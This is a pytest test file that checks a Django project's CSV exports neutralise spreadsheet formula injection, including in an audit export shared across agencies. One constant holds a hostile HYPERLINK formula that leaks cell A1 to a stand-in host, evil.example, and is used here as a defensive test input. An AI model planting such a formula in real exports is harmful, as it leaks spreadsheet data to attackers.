"""Formula injection: no CSV the project writes carries a cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from core.csvcells import csv_writer, neutralise_cell, restore_cell
from lifecycle.services import do_set_legal_hold

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'already quoted", "''already quoted"),
        ("Trial listed", "Trial listed"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value: object, written: str) -> None:
    assert neutralise_cell(value) == written
    assert restore_cell(written) == ("" if value is None else str(value))


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["ok", HOSTILE, "-1"])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["ok", "'" + HOSTILE, "'-1"]


def test_no_module_writes_csv_but_through_the_core_helper() -> None:
    # every csv writer in the project is core.csvcells.csv_writer
    offenders = []
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "var", "node_modules"} or path == ROOT / "core" / "csvcells.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_a_hold_reason_formula_reaches_another_agencys_auditor_csv_as_text(world, signed_in) -> None:
    # given the CPS DPO places a hold on a police-led case with a formula as its reason
    do_set_legal_hold(
        case=world.case, reason=HOSTILE, acting_user=world.cps_dpo, agency=world.agencies["cps"]
    )

    # when the police auditor downloads the events CSV
    response = signed_in(world.police_auditor).get(reverse("audit:export"))

    # then the reason is there, as text a spreadsheet will not run
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + HOSTILE in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
